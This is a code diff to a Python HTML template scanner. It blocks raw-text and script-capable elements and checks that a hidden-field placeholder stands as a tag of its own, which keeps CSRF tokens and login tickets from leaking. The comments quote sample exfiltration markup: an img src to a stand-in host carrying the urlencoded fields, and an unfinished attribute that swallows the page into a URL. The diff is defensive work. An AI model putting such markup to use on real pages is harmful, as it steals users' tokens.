@@ -16,8 +16,16 @@ from html.parser import HTMLParser
 FORBIDDEN_ELEMENTS = frozenset({
     "script", "style", "meta", "base", "link", "iframe", "frame", "frameset", "object", "embed", "applet",
     "html", "head", "body", "title", "template", "noscript", "svg", "math", "portal",
+    # a browser reads what follows these as text, up to their end tag or (plaintext) forever
+    "plaintext", "xmp", "listing", "noembed", "noframes",
 })  # fmt: skip
 URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "srcset", "xlink:href", "poster", "data"})
+# What a template renders for ``form_fields``: the real hidden fields (CSRF token, login ticket)
+# take its place only after the output passed the checks, and only where it stands as a tag of
+# its own. A template never holds the values, so it cannot put them in a URL
+# (``<img src="https://elsewhere/?{{ form_fields|urlencode }}">``) or inside an attribute.
+FIELDS_PLACEHOLDER = '<input type="hidden" name="_form_fields">'
+_PLACEHOLDER_ATTRS = [("type", "hidden"), ("name", "_form_fields")]
 
 
 class _Scanner(HTMLParser):
@@ -26,6 +34,8 @@ class _Scanner(HTMLParser):
         self.problems: list[str] = []
         self.controls: list[tuple[str, str | None]] = []  # (name, value) of inputs and buttons
         self.forms: list[tuple[str, str]] = []  # (method, action)
+        self.placeholders = 0  # FIELDS_PLACEHOLDER read as a tag of its own, outside a textarea
+        self.in_textarea = 0
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         if tag in FORBIDDEN_ELEMENTS:
@@ -40,8 +50,19 @@ class _Scanner(HTMLParser):
             self.controls.append((named["name"] or "", named.get("value")))
         if tag == "form":
             self.forms.append(((named.get("method") or "get").lower(), named.get("action") or ""))
+        if tag == "input" and attrs == _PLACEHOLDER_ATTRS and not self.in_textarea:
+            self.placeholders += 1
+        if tag == "textarea":  # a browser reads its content as text, up to </textarea>
+            self.in_textarea += 1
 
-    handle_startendtag = handle_starttag
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.handle_starttag(tag, attrs)
+        if tag == "textarea":
+            self.in_textarea -= 1
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag == "textarea" and self.in_textarea:
+            self.in_textarea -= 1
 
     # Browsers and Python's parser end comments and declarations in different places
     # ("<!-->" is a whole comment to a browser): markup hidden in one would reach the page
@@ -65,9 +86,15 @@ def scan(html: str) -> _Scanner:
         return scanner
     try:
         scanner.feed(html)
+        # Markup left unfinished ("<img src='https://elsewhere/?") would swallow our layout
+        # that follows it, up to the next quote, into a URL.
+        if scanner.rawdata or scanner.in_textarea:
+            scanner.problems.append("the page's markup ends inside a tag, an attribute or a textarea")
         scanner.close()
     except AssertionError:  # _markupbase's "unknown status keyword" and the like
         scanner.problems.append("the page's markup cannot be read")
+    if html.count(FIELDS_PLACEHOLDER) != scanner.placeholders:
+        scanner.problems.append("{{ form_fields }} stands on its own inside the form, not in an attribute or a URL")
     return scanner
 
 
